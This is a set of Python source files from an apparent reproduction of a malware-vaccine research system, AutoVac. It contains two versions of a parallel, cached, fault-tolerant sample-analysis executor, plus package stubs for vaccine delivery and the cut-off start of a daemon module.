            h.update(b"\x00" + section.name.encode("utf-8", "replace"))
            h.update(str(section.base).encode())
            h.update(section.image)
        h.update(
            b"\x00"
            + json.dumps(program.metadata, sort_keys=True, default=repr).encode()
        )
        h.update(b"\x00" + config.fingerprint().encode())
        return h.hexdigest()

    def _path(self, key: str) -> Path:
        return self.root / key[:2] / f"{key}.json"

    def load(self, key: str) -> Optional[SampleAnalysis]:
        """Decoded analysis on hit, ``None`` on miss (counted either way)."""
        path = self._path(key)
        try:
            payload = json.loads(path.read_text())
            analysis = serialize.analysis_from_dict(payload)
        except (OSError, ValueError, KeyError, TypeError):
            obs.metrics.counter("pipeline.cache_misses").inc()
            return None
        obs.metrics.counter("pipeline.cache_hits").inc()
        return analysis

    def store_payload(self, key: str, payload: dict) -> None:
        path = self._path(key)
        path.parent.mkdir(parents=True, exist_ok=True)
        tmp = path.with_suffix(f".tmp.{os.getpid()}")
        tmp.write_text(json.dumps(payload))
        tmp.replace(path)
        obs.metrics.counter("pipeline.cache_stores").inc()

    def store(self, key: str, analysis: SampleAnalysis) -> None:
        self.store_payload(key, serialize.analysis_to_dict(analysis))


def _as_cache(cache: Union[None, str, os.PathLike, ResultCache]) -> Optional[ResultCache]:
    if cache is None or isinstance(cache, ResultCache):
        return cache
    return ResultCache(cache)


def _analyze_worker(
    program: Program, config: PipelineConfig, cache_root: Optional[str]
) -> Tuple[dict, Dict[str, object]]:
    """Runs in a worker process: fresh obs state, fresh AutoVac, one sample.

    Returns the encoded analysis plus this task's metrics *delta* — the
    registry is reset first so a forked worker never re-reports inherited
    parent counts.
    """
    obs.reset()
    autovac = config.build()
    analysis = autovac.analyze(program)
    payload = serialize.analysis_to_dict(analysis)
    if cache_root is not None:
        cache = ResultCache(cache_root)
        cache.store_payload(cache.key(program, config), payload)
    return payload, obs.metrics.snapshot()


def analyze_population(
    programs: Iterable[Program],
    config: Optional[PipelineConfig] = None,
    jobs: int = 1,
    cache: Union[None, str, os.PathLike, ResultCache] = None,
    autovac: Optional[AutoVac] = None,
) -> PopulationResult:
    """Analyze a corpus with ``jobs`` worker processes and an optional
    result cache.  Results keep input order; tables are identical for any
    ``jobs``/cache combination (the determinism regression test pins this).

    Exactly one of ``config``/``autovac`` drives the analysis: ``jobs=1``
    uses ``autovac`` (or ``config.build()``) in-process; ``jobs>1`` ships
    ``config`` (derived from ``autovac`` if needed) to the workers.
    """
    programs = list(programs)
    jobs = max(1, int(jobs))
    if config is None and (jobs > 1 or cache is not None):
        config = config_for(autovac) if autovac is not None else PipelineConfig()
    store = _as_cache(cache)

    results: List[Optional[SampleAnalysis]] = [None] * len(programs)
    gauge = obs.metrics.gauge(
        "pipeline.population_analyzed", help="samples completed in this run"
    )
    done = 0

    def finish(index: int, analysis: SampleAnalysis) -> None:
        nonlocal done
        results[index] = analysis
        done += 1  # completion count: monotone even when workers finish out of order
        gauge.set(done)

    # Decoded analyses (cache hits, worker payloads) carry journals recorded
    # in another process/run; their events are re-recorded into this
    # process's flight recorder in *input order* — not completion order — so
    # ``obs.flight.events()`` is identical for any jobs/cache combination.
    adopt_indices: List[int] = []

    def adopt_journals() -> None:
        for i in sorted(adopt_indices):
            analysis = results[i]
            if analysis is not None and analysis.journal is not None:
                obs.flight.adopt(analysis.journal)

    pending: List[int] = []
    for i, program in enumerate(programs):
        hit = store.load(store.key(program, config)) if store is not None else None
        if hit is not None:
            finish(i, hit)
            adopt_indices.append(i)
        else:
            pending.append(i)
    if store is not None and pending:
        _log.info("cache", hits=len(programs) - len(pending), misses=len(pending))

    if jobs == 1 or len(pending) <= 1:
        local = autovac if autovac is not None else config.build() if config else AutoVac()
        for i in pending:
            # Analyzed live in this process: the recorder already holds the
            # events, so no adoption pass is needed for these.
            analysis = local.analyze(programs[i])
            if store is not None:
                store.store(store.key(programs[i], config), analysis)
            finish(i, analysis)
        adopt_journals()
        return PopulationResult(analyses=list(results))

    cache_root = str(store.root) if store is not None else None
    with ProcessPoolExecutor(max_workers=min(jobs, len(pending))) as pool:
        futures = {
            pool.submit(_analyze_worker, programs[i], config, cache_root): i
            for i in pending
        }
        remaining = set(futures)
        while remaining:
            finished, remaining = wait(remaining, return_when=FIRST_COMPLETED)
            for future in finished:
                payload, snapshot = future.result()
                analysis = serialize.analysis_from_dict(payload)
                if analysis.span is not None:
                    obs.trace.adopt(analysis.span)
                obs.metrics.merge(snapshot)
                finish(futures[future], analysis)
                adopt_indices.append(futures[future])
    adopt_journals()
    return PopulationResult(analyses=list(results))


__all__ = [
    "ALIGNERS",
    "PipelineConfig",
    "ResultCache",
    "analyze_population",
    "config_for",
]
