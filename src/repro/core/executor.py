"""Parallel, cache-backed, fault-tolerant population executor (paper §VI
scale: 1,716 samples through Phase I–III).

Per-sample analyses are hermetic — ``run_sample`` clones the pristine
environment and the RNG reseeds per clone — so a population fans out to
worker processes without changing any result:

* :class:`PipelineConfig` is the picklable recipe each worker uses to build
  its own :class:`~repro.core.pipeline.AutoVac`;
* workers return ``(analysis payload, metrics snapshot)``; the parent
  decodes payloads via the :mod:`repro.tracing.serialize` analysis codec,
  adopts the span trees into ``obs.trace`` and folds the snapshots into
  ``obs.metrics`` (so ``--metrics``/``stats`` stay correct under ``jobs>1``);
* :class:`ResultCache` stores payloads content-addressed by
  ``sha256(program text, PipelineConfig)`` — an interrupted survey restarted
  with the same cache directory re-analyzes only the missing samples.

At population scale individual samples *will* stall, OOM a worker, or
crash the analyzer (evasive samples do it on purpose), so one bad sample
must never abort the survey.  Failure semantics (see DESIGN.md §10):

* a worker exception yields a structured
  :class:`~repro.core.pipeline.SampleFailure` instead of propagating;
* ``sample_timeout`` (off by default, for determinism benches) bounds each
  attempt's wall clock — an overdue worker is killed with its pool, the
  innocent in-flight samples are resubmitted uncharged;
* failed attempts retry with exponential backoff up to ``sample_retries``
  extra attempts, then the sample is **quarantined**: recorded in
  ``PopulationResult.failures`` and — when a cache is configured — written
  as a *negative cache entry* so a restart does not hot re-crash on it;
* a :class:`BrokenProcessPool` (worker died hard: OOM-kill analogue)
  respawns the pool and re-runs the lost samples one at a time, so the
  culprit is identified solo and innocents are never charged an attempt;
* submissions are windowed (≈ ``2×jobs`` futures in flight) instead of
  pickling the whole population up front.

Injected failures for CI come from :mod:`repro.core.faults`
(``REPRO_FAULT_PLAN``); the retry/timeout/quarantine machinery behaves
identically for real and injected faults, and ``jobs=1`` vs ``jobs>1``
produce the same tables and failure records under the same plan.

The ``pipeline.population_analyzed`` gauge tracks *completed* samples
(healthy or quarantined; a monotone count, final value == population size)
regardless of worker completion order.

``run_dir`` adds cross-process run telemetry (DESIGN.md §11): workers
spool per-sample lifecycle events (:mod:`repro.obs.stream`), the parent
tails and folds them into a persistent ledger + manifest
(:mod:`repro.obs.ledger`) that ``repro tail`` / ``repro runs`` read and
``survey --progress`` renders live.  Terminal completed/failed events are
emitted only by the parent, inside the same ``finish``/``quarantine``
choke points that build :class:`PopulationResult`, so ledger and result
can never disagree.
"""

from __future__ import annotations

import hashlib
import json
import os
import time
import traceback as _tb_module
from collections import deque
from concurrent.futures import FIRST_COMPLETED, Future, ProcessPoolExecutor, wait
from concurrent.futures.process import BrokenProcessPool
from dataclasses import asdict, dataclass, replace
from pathlib import Path
from typing import Deque, Dict, Iterable, List, Optional, Set, Tuple, Union

from .. import obs
from ..analysis.alignment import align_lcs, align_linear, align_myers
from ..obs import stream
from ..obs.ledger import ProgressView, RunTelemetry
from ..tracing import serialize
from ..vm.program import Program
from .faults import FaultPlan, InjectedHang
from .pipeline import AutoVac, PopulationResult, SampleAnalysis, SampleFailure
from .runner import DEFAULT_BUDGET

_log = obs.get_logger("executor")

#: Aligner registry — configs name the aligner so they stay picklable.
ALIGNERS = {"lcs": align_lcs, "linear": align_linear, "myers": align_myers}

#: PipelineConfig fields that change how a survey *runs*, not what a
#: sample's analysis contains — excluded from the cache fingerprint so
#: flipping a timeout or retry budget never invalidates cached results.
_EXECUTION_KNOBS = frozenset({"sample_timeout", "sample_retries", "retry_backoff"})


@dataclass(frozen=True)
class PipelineConfig:
    """Everything needed to rebuild an equivalent :class:`AutoVac` in
    another process.  Only named/scalar knobs belong here (picklability and
    cache-key stability); the clinic needs shared benign programs and stays
    a sequential-only feature.
    """

    profile_budget: int = DEFAULT_BUDGET
    validate_replay: bool = True
    exclusiveness_enabled: bool = True
    explore_paths: bool = False
    aligner: str = "myers"
    #: Phase-II impact analysis resumes mutated runs from per-candidate
    #: checkpoints instead of re-executing the shared prefix.  Results are
    #: identical either way (the snapshot-equivalence tests pin this); the
    #: flag exists for the equivalence bench and as an escape hatch.
    snapshot_impact: bool = True
    #: Compile hot straight-line/loop regions into single-dispatch Python
    #: closures (repro.vm.superblock).  Results are byte-identical either
    #: way (the differential tests pin this); the flag mirrors
    #: ``snapshot_impact`` as an escape hatch and for the parity bench.
    superblock_vm: bool = True
    #: Collect hot-path profiles (``obs.prof``) during analysis.  Part of
    #: the cache fingerprint — not an execution knob — because it changes
    #: what the encoded payload *contains* (the per-sample profile delta).
    profile: bool = False
    #: Per-attempt wall-clock limit in seconds (None = off, the default —
    #: determinism benches must not depend on host speed).  Execution
    #: policy only; excluded from the cache fingerprint.
    sample_timeout: Optional[float] = None
    #: Extra attempts after the first failure before quarantine.
    sample_retries: int = 1
    #: Base delay for exponential backoff between attempts (seconds).
    retry_backoff: float = 0.05

    def build(self) -> AutoVac:
        try:
            aligner = ALIGNERS[self.aligner]
        except KeyError:
            raise ValueError(
                f"unknown aligner {self.aligner!r} (have: {sorted(ALIGNERS)})"
            ) from None
        return AutoVac(
            aligner=aligner,
            profile_budget=self.profile_budget,
            validate_replay=self.validate_replay,
            exclusiveness_enabled=self.exclusiveness_enabled,
            explore_paths=self.explore_paths,
            snapshot_impact=self.snapshot_impact,
            superblock_vm=self.superblock_vm,
        )

    def fingerprint(self) -> str:
        """Stable hash of the analysis-relevant config *and* the payload
        format version — a codec bump invalidates every cached result
        automatically, while execution-policy knobs (timeout/retries) are
        excluded so they never do."""
        doc = {
            "config": {
                k: v for k, v in asdict(self).items() if k not in _EXECUTION_KNOBS
            },
            "analysis_format": serialize.ANALYSIS_FORMAT_VERSION,
        }
        return hashlib.sha256(
            json.dumps(doc, sort_keys=True).encode("utf-8")
        ).hexdigest()


def config_for(autovac: AutoVac) -> PipelineConfig:
    """Derive the worker recipe from an existing pipeline instance.

    Raises :class:`ValueError` for setups a worker cannot reproduce from a
    config alone (clinic programs, custom aligner callables, custom stage
    lists) — those run sequentially via ``jobs=1``.
    """
    aligner_name = next(
        (name for name, fn in ALIGNERS.items() if fn is autovac.impact.aligner), None
    )
    if aligner_name is None:
        raise ValueError(
            "cannot parallelize: custom aligner callable is not picklable; "
            "use aligner='lcs'/'linear' via PipelineConfig or run with jobs=1"
        )
    if autovac.run_clinic or autovac.clinic_programs:
        raise ValueError(
            "cannot parallelize: the clinic test shares benign programs "
            "across samples; run with jobs=1"
        )
    from .stages import default_stages

    defaults = default_stages(exclusiveness_enabled=autovac.exclusiveness_enabled)
    if tuple(type(s) for s in autovac.stages) != tuple(type(s) for s in defaults):
        raise ValueError(
            "cannot parallelize: custom stage lists do not ship to workers; "
            "run with jobs=1"
        )
    return PipelineConfig(
        profile_budget=autovac.profile_budget,
        validate_replay=autovac.validate_replay,
        exclusiveness_enabled=autovac.exclusiveness_enabled,
        explore_paths=autovac.explore_paths,
        aligner=aligner_name,
        snapshot_impact=autovac.impact.snapshot_resume,
        superblock_vm=autovac.superblock_vm,
        profile=obs.prof.enabled,
    )


def _pid_alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except OSError:
        return True  # exists but not ours (EPERM) — leave its files alone
    return True


class ResultCache:
    """Content-addressed on-disk store of encoded analyses.

    Key: sha256 of the program text (assembly source, falling back to the
    disassembly), its name/metadata/section images, and the
    :meth:`PipelineConfig.fingerprint`.  Layout: ``root/<k[:2]>/<key>.json``.
    Writes are atomic (tmp + rename).  A corrupt or version-skewed entry
    reads as a miss **and is unlinked** so it cannot be re-read forever;
    ``.tmp.<pid>`` litter from writers that died between ``write_text`` and
    ``replace`` is swept on open (:meth:`sweep_stale`).

    Quarantined samples store a *negative entry* (the encoded
    :class:`SampleFailure`) under the same key, so a restarted survey
    reports the failure instead of hot re-crashing on the sample.
    """

    def __init__(self, root: Union[str, os.PathLike], sweep: bool = True) -> None:
        self.root = Path(root)
        self.root.mkdir(parents=True, exist_ok=True)
        if sweep:
            self.sweep_stale()

    def key(self, program: Program, config: PipelineConfig) -> str:
        h = hashlib.sha256()
        h.update(program.name.encode("utf-8", "replace"))
        text = program.source or program.disassemble()
        h.update(b"\x00" + text.encode("utf-8", "replace"))
        for section in program.sections:
            h.update(b"\x00" + section.name.encode("utf-8", "replace"))
            h.update(str(section.base).encode())
            h.update(section.image)
        h.update(
            b"\x00"
            + json.dumps(program.metadata, sort_keys=True, default=repr).encode()
        )
        h.update(b"\x00" + config.fingerprint().encode())
        return h.hexdigest()

    def _path(self, key: str) -> Path:
        return self.root / key[:2] / f"{key}.json"

    def load_entry(self, key: str) -> Union[None, SampleAnalysis, SampleFailure]:
        """Decoded analysis on hit, :class:`SampleFailure` on a negative
        hit, ``None`` on miss.  Undecodable entries count as a miss and are
        evicted from disk."""
        path = self._path(key)
        try:
            text = path.read_text()
        except OSError:
            obs.metrics.counter("pipeline.cache_misses").inc()
            return None
        try:
            payload = json.loads(text)
            failure = serialize.failure_from_entry(payload)
            if failure is not None:
                obs.metrics.counter("pipeline.cache_negative_hits").inc()
                return failure
            analysis = serialize.analysis_from_dict(payload)
        except (ValueError, KeyError, TypeError):
            try:
                path.unlink()
            except OSError:
                pass
            obs.metrics.counter("pipeline.cache_evictions").inc()
            obs.metrics.counter("pipeline.cache_misses").inc()
            return None
        obs.metrics.counter("pipeline.cache_hits").inc()
        return analysis

    def load(self, key: str) -> Optional[SampleAnalysis]:
        """Decoded analysis on hit, ``None`` on miss or negative entry."""
        entry = self.load_entry(key)
        return entry if isinstance(entry, SampleAnalysis) else None

    def _write(self, path: Path, payload: dict) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        tmp = path.with_suffix(f".tmp.{os.getpid()}")
        tmp.write_text(json.dumps(payload))
        tmp.replace(path)

    def store_payload(self, key: str, payload: dict) -> None:
        self._write(self._path(key), payload)
        obs.metrics.counter("pipeline.cache_stores").inc()

    def store(self, key: str, analysis: SampleAnalysis) -> None:
        self.store_payload(key, serialize.analysis_to_dict(analysis))

    def store_failure(self, key: str, failure: SampleFailure) -> None:
        """Write a negative entry for a quarantined sample."""
        self._write(self._path(key), serialize.failure_to_entry(failure))
        obs.metrics.counter("pipeline.cache_negative_stores").inc()

    def sweep_stale(self) -> int:
        """Unlink ``<key>.tmp.<pid>`` files whose writer pid is dead (or
        unparseable).  Files belonging to this or another live process are
        left alone — they are writes in progress."""
        removed = 0
        for tmp in self.root.glob("*/*.tmp.*"):
            pid_text = tmp.suffix[1:]
            if pid_text.isdigit():
                pid = int(pid_text)
                if pid == os.getpid() or _pid_alive(pid):
                    continue
            try:
                tmp.unlink()
                removed += 1
            except OSError:
                continue
        if removed:
            obs.metrics.counter("pipeline.cache_tmp_swept").inc(removed)
            _log.info("cache tmp sweep", removed=removed)
        return removed


def _as_cache(cache: Union[None, str, os.PathLike, ResultCache]) -> Optional[ResultCache]:
    if cache is None or isinstance(cache, ResultCache):
        return cache
    return ResultCache(cache)


def _analyze_worker(
    program: Program,
    config: PipelineConfig,
    cache_root: Optional[str],
    index: int = 0,
    attempt: int = 1,
    plan: Optional[FaultPlan] = None,
    spool_dir: Optional[str] = None,
) -> Tuple[dict, Dict[str, object]]:
    """Runs in a worker process: fresh obs state, fresh AutoVac, one sample.

    Returns the encoded analysis plus this task's metrics *delta* — the
    registry is reset first so a forked worker never re-reports inherited
    parent counts.  ``plan`` (ships explicitly from the parent, never read
    from the environment here) injects the planned fault for this
    (sample, attempt), if any.  ``spool_dir`` (set when the survey has a
    ``--run-dir``) points the worker's telemetry emitter at the run's spool
    so ``sample.started`` / ``sample.phase`` events stream out live.
    """
    obs.reset()
    if config.profile:
        # The per-sample profile delta ships inside the payload (codec v4);
        # the parent absorbs it, so jobs=N merges like MetricsRegistry.
        obs.prof.enabled = True
    if spool_dir is not None:
        stream.install(spool_dir).set_context(index=index, attempt=attempt)
    if plan is not None:
        plan.enact_in_worker(index, program.name, attempt)
    autovac = config.build()
    analysis = autovac.analyze(program)
    payload = serialize.analysis_to_dict(analysis)
    if cache_root is not None:
        cache = ResultCache(cache_root, sweep=False)
        cache.store_payload(cache.key(program, config), payload)
    return payload, obs.metrics.snapshot()


def _tb_summary(exc: BaseException, limit: int = 8) -> str:
    """Trimmed traceback (last ``limit`` lines) for a SampleFailure."""
    lines = _tb_module.format_exception(type(exc), exc, exc.__traceback__)
    text = "".join(lines).strip().splitlines()
    return "\n".join(text[-limit:])


@dataclass(frozen=True)
class _Task:
    """One in-flight worker submission."""

    index: int
    attempt: int
    deadline: Optional[float]  # monotonic; None when timeouts are off


def _respawn_pool(pool: ProcessPoolExecutor, max_workers: int) -> ProcessPoolExecutor:
    """Kill a pool (hung or broken workers included) and start a fresh one."""
    for proc in list(getattr(pool, "_processes", {}).values()):
        try:
            proc.terminate()
        except Exception:  # pragma: no cover - best effort by contract
            pass
    try:
        pool.shutdown(wait=False, cancel_futures=True)
    except Exception:  # pragma: no cover - best effort by contract
        pass
    obs.metrics.counter("pipeline.pool_respawns").inc()
    return ProcessPoolExecutor(max_workers=max_workers)


def analyze_population(
    programs: Iterable[Program],
    config: Optional[PipelineConfig] = None,
    jobs: int = 1,
    cache: Union[None, str, os.PathLike, ResultCache] = None,
    autovac: Optional[AutoVac] = None,
    faults: Optional[FaultPlan] = None,
    run_dir: Union[None, str, os.PathLike] = None,
    progress: Optional[ProgressView] = None,
) -> PopulationResult:
    """Analyze a corpus with ``jobs`` worker processes and an optional
    result cache.  Healthy results keep input order; tables are identical
    for any ``jobs``/cache combination (the determinism regression test
    pins this).  A failing sample is retried per ``config.sample_retries``
    and then quarantined into ``PopulationResult.failures`` — it never
    aborts the survey.

    Exactly one of ``config``/``autovac`` drives the analysis: ``jobs=1``
    uses ``autovac`` (or ``config.build()``) in-process; ``jobs>1`` ships
    ``config`` (derived from ``autovac`` if needed) to the workers.
    ``faults`` (default: parsed from ``REPRO_FAULT_PLAN``) injects
    deterministic failures for testing the machinery.

    ``run_dir`` turns on run telemetry (:mod:`repro.obs.ledger`): workers
    spool per-sample lifecycle events, the parent folds them into a
    persistent ledger + manifest under ``run_dir``, watchable live with
    ``repro tail`` and summarized by ``repro runs``.  The parent is the
    only emitter of terminal ``sample.completed``/``sample.failed`` events,
    so the ledger's terminal set always matches the returned
    :class:`PopulationResult` — even when workers die mid-sample.
    ``progress`` (a :class:`~repro.obs.ledger.ProgressView`) additionally
    renders the fold live; it requires ``run_dir``.
    """
    programs = list(programs)
    jobs = max(1, int(jobs))
    if config is None and (jobs > 1 or cache is not None):
        config = config_for(autovac) if autovac is not None else PipelineConfig()
    store = _as_cache(cache)
    plan = faults if faults is not None else FaultPlan.from_env()
    policy = config if config is not None else PipelineConfig()
    if policy.profile and not obs.prof.enabled:
        obs.prof.enabled = True
    retries = max(0, int(policy.sample_retries))
    timeout = policy.sample_timeout
    backoff = max(0.0, policy.retry_backoff)

    n = len(programs)
    telemetry: Optional[RunTelemetry] = None
    if run_dir is not None:
        telemetry = RunTelemetry.begin(
            run_dir,
            population=n,
            config_fingerprint=policy.fingerprint(),
            progress=progress,
        )
    results: List[Optional[SampleAnalysis]] = [None] * n
    failures_by_index: Dict[int, SampleFailure] = {}
    gauge = obs.metrics.gauge(
        "pipeline.population_analyzed", help="samples completed in this run"
    )
    done = 0

    def finish(index: int, analysis: SampleAnalysis, cached: bool = False) -> None:
        nonlocal done
        results[index] = analysis
        done += 1  # completion count: monotone even when workers finish out of order
        gauge.set(done)
        stream.emit(
            "sample.completed",
            sample=programs[index].name,
            index=index,
            vaccines=len(analysis.vaccines),
            cached=cached,
        )
        if telemetry is not None and analysis.profile:
            telemetry.record_profile(
                {
                    "kind": "sample.profile",
                    "sample": programs[index].name,
                    "index": index,
                    "profile": analysis.profile,
                }
            )

    def quarantine(index: int, failure: SampleFailure, store_negative: bool = True) -> None:
        nonlocal done
        failures_by_index[index] = failure
        done += 1
        gauge.set(done)
        obs.metrics.counter("pipeline.sample_failures").inc()
        stream.emit(
            "sample.failed",
            sample=failure.sample,
            index=index,
            failure_kind=failure.kind,
            error=failure.error_type,
            attempts=failure.attempts,
            cached=not store_negative,
        )
        _log.warning(
            "sample quarantined",
            sample=failure.sample,
            kind=failure.kind,
            error=failure.error_type,
            attempts=failure.attempts,
        )
        if store_negative and store is not None:
            store.store_failure(store.key(programs[index], config), failure)

    # Decoded analyses (cache hits, worker payloads) carry journals recorded
    # in another process/run; their events are re-recorded into this
    # process's flight recorder in *input order* — not completion order — so
    # ``obs.flight.events()`` is identical for any jobs/cache combination.
    # Quarantine events follow, also in input order.
    adopt_indices: List[int] = []

    def finalize_flight() -> None:
        for i in sorted(adopt_indices):
            analysis = results[i]
            if analysis is not None and analysis.journal is not None:
                obs.flight.adopt(analysis.journal)
        if obs.flight.enabled:
            for i in sorted(failures_by_index):
                f = failures_by_index[i]
                obs.flight.record(
                    "sample.failed",
                    sample=f.sample,
                    failure_kind=f.kind,
                    error=f.error_type,
                    attempts=f.attempts,
                )

    def assemble() -> PopulationResult:
        finalize_flight()
        result = PopulationResult(
            analyses=[a for a in results if a is not None],
            failures=[failures_by_index[i] for i in sorted(failures_by_index)],
        )
        if telemetry is not None:
            if len(obs.prof):
                telemetry.record_profile(
                    {"kind": "run.profile", "profile": obs.prof.snapshot()}
                )
            telemetry.finish(
                outcomes={
                    "completed": len(result.analyses),
                    "failed": len(result.failures),
                }
            )
        return result

    pending: List[int] = []
    for i, program in enumerate(programs):
        entry = store.load_entry(store.key(program, config)) if store is not None else None
        if isinstance(entry, SampleAnalysis):
            stream.emit("cache.hit", sample=program.name, index=i, negative=False)
            finish(i, entry, cached=True)
            adopt_indices.append(i)
            # Cached profiles were collected in another run/process; fold
            # them in like worker payloads (the jobs=1 in-process path never
            # absorbs — its deltas are already in the global profiler).
            if entry.profile:
                obs.prof.absorb(entry.profile)
        elif isinstance(entry, SampleFailure):
            # Negative entry from an earlier run: report the quarantine
            # again instead of hot re-crashing on the sample.
            stream.emit("cache.hit", sample=program.name, index=i, negative=True)
            quarantine(i, replace(entry, index=i), store_negative=False)
        else:
            pending.append(i)
    if store is not None and pending:
        _log.info("cache", hits=n - len(pending), misses=len(pending))
    if telemetry is not None:
        telemetry.drain()

    if jobs == 1 or len(pending) <= 1:
        local = autovac if autovac is not None else config.build() if config else AutoVac()
        for i in pending:
            program = programs[i]
            attempt = 1
            while True:
                stream.set_context(index=i, attempt=attempt)
                try:
                    if plan:
                        plan.raise_inline(i, program.name, attempt)
                    # Analyzed live in this process: the recorder already
                    # holds the events, so no adoption pass is needed.
                    analysis = local.analyze(program)
                except Exception as exc:
                    kind = "timeout" if isinstance(exc, InjectedHang) else "crash"
                    if kind == "timeout":
                        stream.emit(
                            "sample.timeout",
                            sample=program.name,
                            index=i,
                            attempt=attempt,
                        )
                    if attempt > retries:
                        quarantine(
                            i,
                            SampleFailure(
                                sample=program.name,
                                index=i,
                                kind=kind,
                                error_type=type(exc).__name__,
                                message=str(exc),
                                traceback=_tb_summary(exc),
                                attempts=attempt,
                            ),
                        )
                        break
                    obs.metrics.counter("pipeline.sample_retries").inc()
                    stream.emit(
                        "sample.retry",
                        sample=program.name,
                        index=i,
                        attempt=attempt,
                        failure_kind=kind,
                        error=type(exc).__name__,
                    )
                    if backoff:
                        time.sleep(backoff * (2 ** (attempt - 1)))
                    attempt += 1
                else:
                    if store is not None:
                        store.store(store.key(program, config), analysis)
                    finish(i, analysis)
                    break
            if telemetry is not None:
                telemetry.drain()
        stream.clear_context()
        return assemble()

    cache_root = str(store.root) if store is not None else None
    spool_dir = str(telemetry.spool_dir) if telemetry is not None else None
    n_workers = min(jobs, len(pending))
    # Bounded submit window: keep ≈2×jobs futures in flight instead of
    # pickling every pending program up front.
    window = max(1, 2 * n_workers)
    queue: Deque[Tuple[int, int]] = deque((i, 1) for i in pending)
    #: Samples implicated in a pool breakage; re-run solo (window of 1) so
    #: a repeat breakage identifies the culprit without charging innocents.
    suspects: Set[int] = set()
    in_flight: Dict[Future, _Task] = {}
    pool = ProcessPoolExecutor(max_workers=n_workers)

    def submit_ready() -> None:
        limit = 1 if suspects else window
        while queue and len(in_flight) < limit:
            index, attempt = queue.popleft()
            deadline = (time.monotonic() + timeout) if timeout is not None else None
            future = pool.submit(
                _analyze_worker,
                programs[index],
                config,
                cache_root,
                index=index,
                attempt=attempt,
                plan=plan if plan else None,
                spool_dir=spool_dir,
            )
            in_flight[future] = _Task(index, attempt, deadline)

    def handle_attempt_failure(
        task: _Task, kind: str, error_type: str, message: str, tb: str
    ) -> None:
        suspects.discard(task.index)
        if kind == "timeout":
            stream.emit(
                "sample.timeout",
                sample=programs[task.index].name,
                index=task.index,
                attempt=task.attempt,
            )
        if task.attempt > retries:
            quarantine(
                task.index,
                SampleFailure(
                    sample=programs[task.index].name,
                    index=task.index,
                    kind=kind,
                    error_type=error_type,
                    message=message,
                    traceback=tb,
                    attempts=task.attempt,
                ),
            )
            return
        obs.metrics.counter("pipeline.sample_retries").inc()
        stream.emit(
            "sample.retry",
            sample=programs[task.index].name,
            index=task.index,
            attempt=task.attempt,
            failure_kind=kind,
            error=error_type,
        )
        _log.warning(
            "sample retry",
            sample=programs[task.index].name,
            attempt=task.attempt,
            kind=kind,
            error=error_type,
        )
        if backoff:
            time.sleep(backoff * (2 ** (task.attempt - 1)))
        queue.append((task.index, task.attempt + 1))

    try:
        while in_flight or queue:
            submit_ready()
            wait_timeout = None
            if timeout is not None and in_flight:
                now = time.monotonic()
                wait_timeout = max(
                    0.0, min(t.deadline for t in in_flight.values()) - now
                )
            if telemetry is not None:
                # Fold whatever the workers have spooled so far — this is
                # what makes `repro tail` / `--progress` live rather than
                # post-hoc.  Bound the wait so a long-running sample does
                # not freeze the view.
                telemetry.drain()
                if wait_timeout is None or wait_timeout > 0.5:
                    wait_timeout = 0.5
            done_set, _ = wait(
                set(in_flight), timeout=wait_timeout, return_when=FIRST_COMPLETED
            )
            broken_tasks: List[_Task] = []
            for future in done_set:
                task = in_flight.pop(future)
                try:
                    payload, snapshot = future.result()
                except BrokenProcessPool:
                    broken_tasks.append(task)
                except InjectedHang as exc:
                    # The hang outlived its nap (no/large timeout): same
                    # classification the parent-side deadline would give.
                    handle_attempt_failure(
                        task, "timeout", type(exc).__name__, str(exc), _tb_summary(exc)
                    )
                except Exception as exc:
                    handle_attempt_failure(
                        task, "crash", type(exc).__name__, str(exc), _tb_summary(exc)
                    )
                else:
                    analysis = serialize.analysis_from_dict(payload)
                    if analysis.span is not None:
                        obs.trace.adopt(analysis.span)
                    obs.metrics.merge(snapshot)
                    if analysis.profile:
                        obs.prof.absorb(analysis.profile)
                    finish(task.index, analysis)
                    adopt_indices.append(task.index)
                    suspects.discard(task.index)

            if broken_tasks:
                # The pool is dead; every still-in-flight future is lost too.
                lost = broken_tasks + list(in_flight.values())
                in_flight.clear()
                pool = _respawn_pool(pool, n_workers)
                if len(lost) == 1:
                    # Died running alone: definitively the culprit.
                    task = lost[0]
                    handle_attempt_failure(
                        task,
                        "pool",
                        "BrokenProcessPool",
                        "worker process died unexpectedly",
                        "",
                    )
                else:
                    # Culprit unknown: re-run the lost samples one at a
                    # time (same attempt — nobody is charged yet).
                    _log.warning(
                        "process pool broke; re-running lost samples solo",
                        lost=len(lost),
                    )
                    for task in sorted(lost, key=lambda t: t.index, reverse=True):
                        queue.appendleft((task.index, task.attempt))
                        suspects.add(task.index)
                continue

            if timeout is not None:
                now = time.monotonic()
                overdue = [
                    future
                    for future, task in in_flight.items()
                    if task.deadline is not None and now >= task.deadline
                ]
                if overdue:
                    for future in overdue:
                        task = in_flight.pop(future)
                        handle_attempt_failure(
                            task,
                            "timeout",
                            "TimeoutError",
                            f"exceeded {timeout:g}s wall clock",
                            "",
                        )
                    # A hung worker cannot be cancelled individually — the
                    # pool goes with it; innocents resubmit uncharged.
                    for task in in_flight.values():
                        queue.appendleft((task.index, task.attempt))
                    in_flight.clear()
                    pool = _respawn_pool(pool, n_workers)
    finally:
        pool.shutdown(wait=False, cancel_futures=True)
    return assemble()


__all__ = [
    "ALIGNERS",
    "PipelineConfig",
    "ResultCache",
    "analyze_population",
    "config_for",
]
