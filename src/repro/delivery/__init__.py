"""Phase III: vaccine delivery and deployment."""

from .daemon import VaccineDaemon
from .engine import CompiledRule, RuleEngine
from .injection import DirectInjector, InjectionError, InjectionRecord
from .package import Deployment, VaccinePackage, deploy

__all__ = [
    "CompiledRule",
    "Deployment",
    "DirectInjector",
    "InjectionError",
    "InjectionRecord",
    "RuleEngine",
    "VaccineDaemon",
    "VaccinePackage",
    "deploy",
]
