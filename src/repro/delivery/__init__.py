"""Phase III: vaccine delivery and deployment."""

from .daemon import VaccineDaemon
from .injection import DirectInjector, InjectionError, InjectionRecord
from .package import Deployment, VaccinePackage, deploy

__all__ = [
    "Deployment",
    "DirectInjector",
    "InjectionError",
    "InjectionRecord",
    "VaccineDaemon",
    "VaccinePackage",
    "deploy",
]
