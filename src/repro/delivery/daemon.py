"""Vaccine daemon — resident deployment (paper §V).

Handles everything direct injection cannot:

* **algorithm-deterministic** identifiers: on install the daemon replays the
  generation slice against *this* host, obtains the concrete identifier, and
  (for simulate-presence vaccines) direct-injects the computed marker — the
